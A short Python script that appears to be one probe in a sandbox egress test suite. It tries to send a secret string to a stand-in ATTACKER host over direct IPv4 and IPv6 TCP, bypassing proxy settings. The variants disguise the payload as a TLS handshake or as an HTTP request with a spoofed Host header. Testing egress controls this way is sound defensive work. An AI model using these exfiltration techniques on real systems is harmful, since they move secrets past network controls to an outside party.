"""Direct TCP to an IP address, bypassing the proxy variables: v4 on several ports and v6."""
import functools
import socket
import sys

from _common import ATTACKER, ATTACKER6, attempt, report, tcp_exchange

SECRET = sys.argv[1].encode() if len(sys.argv) > 1 else b"secret"
for port in (9999, 8080):
    attempt(f"tcp4:{port}", functools.partial(tcp_exchange, socket.AF_INET, (ATTACKER, port),
                                              b"EXFIL " + SECRET + b"\n"))
attempt("tcp4:443-tls-like", lambda: tcp_exchange(socket.AF_INET, (ATTACKER, 443),
                                                  b"\x16\x03\x01\x00\x05hello" + SECRET))
attempt("tcp4:80-host-spoof", lambda: tcp_exchange(
    socket.AF_INET, (ATTACKER, 80),
    b"GET /?k=" + SECRET + b" HTTP/1.1\r\nHost: app.test\r\nConnection: close\r\n\r\n"))
attempt("tcp6:9999", lambda: tcp_exchange(socket.AF_INET6, (ATTACKER6, 9999),
                                          b"EXFIL6 " + SECRET + b"\n"))
report()
